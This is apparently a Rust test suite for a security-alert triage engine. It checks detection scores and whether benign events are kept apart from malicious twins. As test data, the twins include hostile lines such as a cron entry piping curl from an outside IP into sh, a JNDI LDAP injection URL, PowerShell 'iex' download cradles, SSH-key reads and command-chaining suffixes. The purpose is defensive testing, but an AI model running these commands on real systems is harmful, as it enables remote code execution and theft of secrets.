mod accounts;
mod attackers;
mod closing;
mod clouds;
mod files;
mod guards;
mod inventory;
mod jobs;
mod places;
mod supports;
mod titles;
mod web;

use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;
use crate::{
    AlertFields, Disposition, Redactor, RedactorSettings, Repair,
    fixtures::{self, Labelled},
};

/// What an analyst does with a verdict.
fn action(disposition: Disposition) -> &'static str {
    match disposition {
        Disposition::TruePositive => "escalate",
        Disposition::NeedsInvestigation => "review",
        Disposition::BenignPositive | Disposition::FalsePositive => "close",
    }
}

/// Macro-F1 over escalate, review and close.
fn macro_f1(pairs: &[(Disposition, Disposition)]) -> f64 {
    let classes = ["escalate", "review", "close"];
    let f1 = classes.map(|class| {
        let count = |wanted: bool, got: bool| {
            let hits = pairs
                .iter()
                .filter(|(label, said)| (action(*label) == class) == wanted && (action(*said) == class) == got);
            f64::from(u32::try_from(hits.count()).unwrap())
        };
        let (hit, missed, wrong) = (count(true, true), count(true, false), count(false, true));
        if hit == 0.0 {
            0.0
        } else {
            2.0 * hit / (2.0 * hit + missed + wrong)
        }
    });
    f1.iter().sum::<f64>() / 3.0
}

fn judged(alerts: &[Labelled]) -> Vec<(Disposition, Disposition)> {
    let verdict = |alert: &Labelled| {
        RuleTriager
            .verdict(&fixtures::evidence(&alert.alert), &Policy::default())
            .disposition()
    };
    alerts.iter().map(|alert| (alert.verdict, verdict(alert))).collect()
}

#[test]
fn it_beats_the_level_and_closes_no_serious_attack() {
    assert!(scored(&fixtures::labelled()) > 0.85);
}

#[test]
fn it_does_so_on_alerts_that_were_written_without_a_look_at_the_table() {
    let alerts = fixtures::labelled_in("labelled_unseen.jsonl");
    assert!(alerts.len() >= 200);
    assert!(scored(&alerts) > 0.80);
}

#[test]
fn it_closes_everyday_work_and_no_serious_attack() {
    let alerts = fixtures::labelled_in("labelled_everyday.jsonl");
    assert!(alerts.len() >= 150);
    assert!(scored(&alerts) > 0.85);
}

#[test]
fn it_does_so_in_families_that_no_line_was_made_for() {
    let alerts = fixtures::labelled_in("labelled_families.jsonl");
    assert!(alerts.len() >= 210);
    assert!(scored(&alerts) > 0.80);
}

// Macro-F1; fails where a serious attack is closed.
fn scored(alerts: &[Labelled]) -> f64 {
    let pairs = judged(alerts);
    let mut matrix: BTreeMap<(&str, &str), u32> = BTreeMap::new();
    for (label, said) in &pairs {
        *matrix.entry((action(*label), action(*said))).or_default() += 1;
    }
    for (alert, (label, said)) in alerts.iter().zip(&pairs) {
        if action(*label) != action(*said) {
            let opinion = opinion(&fixtures::evidence(&alert.alert));
            let seen: Vec<_> = opinion
                .seen
                .iter()
                .map(|seen| (seen.signal.name, seen.signal.weight))
                .collect();
            println!(
                "{} {}: {label}, said {said} ({} {}): {seen:?}",
                alert.id, alert.kind, opinion.score, opinion.disposition
            );
        }
        let serious = *label == Disposition::TruePositive && matches!(alert.severity.as_str(), "high" | "critical");
        assert!(!(serious && said.is_benign()), "{} was closed", alert.kind);
    }
    let score = macro_f1(&pairs);
    println!(
        "macro-F1 {score:.3} on {} alerts, (label, said): {matrix:?}",
        alerts.len()
    );
    score
}

#[test]
fn its_own_words_pass_the_check_that_every_model_has_to_pass() {
    for alert in fixtures::labelled() {
        let evidence = fixtures::evidence(&alert.alert);
        match ground(&RuleTriager.draft(&evidence), &evidence, &Policy::default()) {
            Outcome::Accepted(verdict) => assert!(!verdict.evidence().is_empty(), "{}", alert.kind),
            Outcome::Repaired(_, repairs) => {
                let by_floor = |repair: &Repair| matches!(repair, Repair::Raised(_) | Repair::SeverityAdjusted);
                assert!(repairs.iter().all(by_floor), "{}: {repairs:?}", alert.kind);
            }
            Outcome::Rejected(rejection) => panic!("{}: {rejection}", alert.kind),
        }
    }
}

#[test]
fn it_says_the_same_every_time_and_names_what_it_saw() {
    let alerts = fixtures::labelled();
    let alert = alerts.iter().find(|alert| alert.kind == "comsvcs_minidump").unwrap();
    let evidence = fixtures::evidence(&alert.alert);
    assert_eq!(RuleTriager.draft(&evidence), RuleTriager.draft(&evidence));
    assert!(
        RuleTriager.explain(&evidence)[0].starts_with("lsass_dump (+7): "),
        "{:?}",
        RuleTriager.explain(&evidence)
    );
}

#[test]
fn soothing_words_of_the_attacker_change_nothing() {
    let alerts = fixtures::labelled();
    let alert = alerts.iter().find(|alert| alert.kind == "certutil_download").unwrap();
    for words in [
        " --job nightly-backup",
        " # approved by IT",
        " & vssadmin list shadows",
        " && ping 127.0.0.1",
        " eicar",
    ] {
        let field = "data.win.eventdata.commandLine";
        let command = alert.alert["data"]["win"]["eventdata"]["commandLine"].as_str().unwrap();
        let evidence = fixtures::evidence(&fixtures::with_payload(
            &alert.alert,
            field,
            &format!("{command}{words}"),
        ));
        assert_eq!(opinion(&evidence).disposition, Disposition::TruePositive, "{words}");
    }
}

/// An alert as its words: level, groups, fields.
fn said_of(level: u8, groups: &str, fields: &[(&str, &str)]) -> Disposition {
    said_under("A rule", level, groups, fields)
}

fn said_under(title: &str, level: u8, groups: &str, fields: &[(&str, &str)]) -> Disposition {
    let fields = AlertFields {
        title: title.into(),
        rule_id: Some("1".into()),
        level: Some(level),
        groups: groups.split(' ').map(str::to_owned).collect(),
        fields: fields
            .iter()
            .map(|(path, value)| ((*path).to_owned(), (*value).to_owned()))
            .collect(),
        ..AlertFields::default()
    };
    let redactor = Redactor::new(RedactorSettings::default()).unwrap();
    let evidence = redactor.redact(crate::Evidence::from_fields(&fields)).unwrap();
    RuleTriager.verdict(&evidence, &Policy::default()).disposition()
}

const EVENT: &str = "data.win.system.eventID";
const COMMAND: &str = "data.win.eventdata.commandLine";
const IMAGE: &str = "data.win.eventdata.image";
const PARENT: &str = "data.win.eventdata.parentImage";
const SCRIPT: &str = "data.win.eventdata.scriptBlockText";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const RUNDLL: &str = r"C:\Windows\System32\rundll32.exe";
const PANEL: &str = r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL C:\Windows\System32\desk.cpl";
const APPLICATION: &str = "data.win.eventdata.application";
const BROWSER: &str = r"C:\Program Files\Mozilla Firefox\firefox.exe";

#[test]
#[expect(clippy::too_many_lines, reason = "a table of pairs")]
fn everyday_work_is_closed_and_its_twin_that_is_none_stays_open() {
    type Fields<'a> = &'a [(&'a str, &'a str)];
    let cases: [(&str, Fields<'_>, Fields<'_>); 18] = [
        (
            "windows sysmon",
            &[(EVENT, "1"), (COMMAND, PANEL), (IMAGE, RUNDLL), (PARENT, EXPLORER)],
            &[
                (
                    COMMAND,
                    r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL C:\Users\Public\desk.cpl",
                ),
                (IMAGE, r"C:\Users\e\rundll32.exe"),
                (PARENT, r"C:\Windows\System32\mshta.exe"),
            ],
        ),
        (
            "windows sysmon",
            &[
                (EVENT, "1"),
                (COMMAND, "ipconfig /all"),
                (IMAGE, r"C:\Windows\System32\ipconfig.exe"),
                (PARENT, r"C:\Windows\System32\cmd.exe"),
            ],
            &[
                (IMAGE, r"C:\Windows\System32\regsvr32.exe"),
                (COMMAND, "ipconfig /all & whoami"),
                (COMMAND, r"ipconfig /all > C:\Users\Public\i.txt"),
                (PARENT, r"C:\inetpub\w3wp.exe"),
            ],
        ),
        (
            "windows sysmon",
            &[
                (EVENT, "3"),
                (IMAGE, BROWSER),
                ("data.win.eventdata.destinationPort", "443"),
            ],
            &[
                (IMAGE, r"C:\Users\e\AppData\Local\firefox.exe"),
                ("data.win.eventdata.destinationPort", "4444"),
            ],
        ),
        (
            "windows sysmon",
            &[
                (EVENT, "22"),
                (IMAGE, BROWSER),
                ("data.win.eventdata.queryName", "update.example.com"),
            ],
            &[
                ("data.win.eventdata.queryName", "a.duckdns.org"),
                (IMAGE, r"C:\Program Files\nodejs\node.exe"),
            ],
        ),
        (
            "windows sysmon",
            &[
                (EVENT, "13"),
                (IMAGE, r"C:\Windows\System32\svchost.exe"),
                (
                    "data.win.eventdata.targetObject",
                    r"HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime",
                ),
            ],
            &[
                (
                    "data.win.eventdata.targetObject",
                    r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x",
                ),
                ("data.win.eventdata.details", "powershell -nop"),
            ],
        ),
        (
            "windows powershell",
            &[
                (EVENT, "4104"),
                (SCRIPT, "Get-Service | Where-Object Status -eq Stopped"),
            ],
            &[
                (SCRIPT, "Get-Service; iex $x"),
                (SCRIPT, "Get-Service | %{ [Net.WebClient] }"),
            ],
        ),
        (
            "windows windows_system",
            &[
                (EVENT, "7045"),
                (
                    "data.win.eventdata.imagePath",
                    r#""C:\Program Files\VMware\VMware Tools\vmtoolsd.exe""#,
                ),
            ],
            &[(
                "data.win.eventdata.imagePath",
                r"C:\Program Files\VMware\VMware Tools\..\..\x.exe -c http://x.example/",
            )],
        ),
        (
            "windows",
            &[
                (EVENT, "4726"),
                ("data.win.eventdata.subjectUserName", "svc-hrsync"),
                ("data.win.eventdata.targetUserName", "b.old"),
            ],
            &[
                ("data.win.eventdata.targetUserName", "Administrator"),
                ("data.win.eventdata.subjectUserName", "b.other"),
            ],
        ),
        (
            "audit audit_command",
            &[
                ("data.audit.command", "ls"),
                ("data.audit.execve.a0", "ls"),
                ("data.audit.execve.a1", "/var/log"),
                ("data.audit.uid", "0"),
            ],
            &[("data.audit.execve.a1", "/root/.ssh"), ("data.audit.uid", "33")],
        ),
        (
            "syslog cron",
            &[(
                "full_log",
                "Mar  2 08:00:01 host CRON[12]: (root) CMD (run-parts /etc/cron.daily)",
            )],
            &[
                (
                    "full_log",
                    "Mar  2 08:00:01 host CRON[12]: (root) CMD (curl http://203.0.113.9/x | sh)",
                ),
                ("full_log", "Mar  2 08:00:01 host CRON[12]: (root) CMD (/tmp/x)"),
            ],
        ),
        (
            "k8s_audit",
            &[
                ("data.user.username", "system:serviceaccount:prod:shop"),
                ("data.verb", "get"),
                ("data.objectRef.resource", "configmaps"),
            ],
            &[
                ("data.objectRef.resource", "secrets"),
                ("data.user.username", "system:anonymous"),
            ],
        ),
        (
            "windows windows_system",
            &[
                (EVENT, "7040"),
                ("data.win.eventdata.param4", "BITS"),
                ("data.win.eventdata.param3", "demand start"),
            ],
            &[
                ("data.win.eventdata.param4", "WinDefend"),
                ("data.win.eventdata.param3", "disabled"),
            ],
        ),
        (
            "windows powershell",
            &[
                (EVENT, "1"),
                (
                    COMMAND,
                    "powershell -NoProfile -Command Get-HotFix | Select-Object HotFixID",
                ),
            ],
            &[
                (COMMAND, "powershell -NoProfile -Command Get-HotFix; iex $x"),
                (COMMAND, "powershell -NoProfile -Command Get-HotFix | Out-File //srv/x"),
            ],
        ),
        (
            "windows sysmon",
            &[
                (EVENT, "7"),
                (IMAGE, BROWSER),
                ("data.win.eventdata.imageLoaded", r"C:\\Windows\\System32\\taskschd.dll"),
                ("data.win.eventdata.signed", "true"),
            ],
            &[
                ("data.win.eventdata.imageLoaded", r"C:\\Users\\e\\taskschd.dll"),
                ("data.win.eventdata.signed", "false"),
            ],
        ),
        (
            "audit audit_command",
            &[
                ("data.audit.auid", "1001"),
                ("data.audit.execve.a0", "git"),
                ("data.audit.execve.a1", "pull"),
            ],
            &[("data.audit.auid", "4294967295"), ("data.audit.execve.a1", "config")],
        ),
        (
            "web accesslog",
            &[("data.url", "/robots.txt"), ("data.id", "404")],
            &[
                ("data.url", "/.env"),
                ("data.url", "/robots.txt?x=${jndi:ldap://203.0.113.9/a}"),
            ],
        ),
        (
            "windows",
            &[
                (EVENT, "5157"),
                (APPLICATION, r"\device\harddiskvolume3\windows\system32\svchost.exe"),
                ("data.win.eventdata.destPort", "5355"),
            ],
            &[
                ("data.win.eventdata.destPort", "445"),
                (APPLICATION, r"\device\harddiskvolume3\windows\system32\services.exe"),
            ],
        ),
        (
            "k8s_audit",
            &[
                (
                    "data.user.username",
                    "system:serviceaccount:kube-system:replicaset-controller",
                ),
                ("data.verb", "create"),
                ("data.objectRef.resource", "pods"),
            ],
            &[
                ("data.user.username", "dev-bot"),
                ("data.requestObject.spec.containers.securityContext.privileged", "true"),
            ],
        ),
    ];
    for (groups, everyday, twins) in cases {
        assert!(said_of(3, groups, everyday).is_benign(), "{everyday:?}");
        assert!(!said_of(12, groups, everyday).is_benign(), "{everyday:?}");
        for &(path, value) in twins {
            let mut twin: Vec<_> = everyday.iter().copied().filter(|(other, _)| *other != path).collect();
            twin.push((path, value));
            assert!(!said_of(3, groups, &twin).is_benign(), "{twin:?}");
        }
    }
}

proptest! {
    #[test]
    fn it_judges_any_evidence(
        title in any::<String>(),
        level in proptest::option::of(any::<u8>()),
        groups in proptest::collection::vec(any::<String>(), 0..3),
        fields in proptest::collection::vec(("[a-z.]{0,24}", any::<String>()), 0..6),
    ) {
        let fields = AlertFields { title, level, groups, fields, ..AlertFields::default() };
        let redactor = Redactor::new(RedactorSettings::default()).unwrap();
        if let Ok(evidence) = redactor.redact(crate::Evidence::from_fields(&fields)) {
            let verdict = RuleTriager.verdict(&evidence, &Policy::default());
            prop_assert!(!verdict.summary().is_empty() && !verdict.next_steps().is_empty());
        }
    }
}
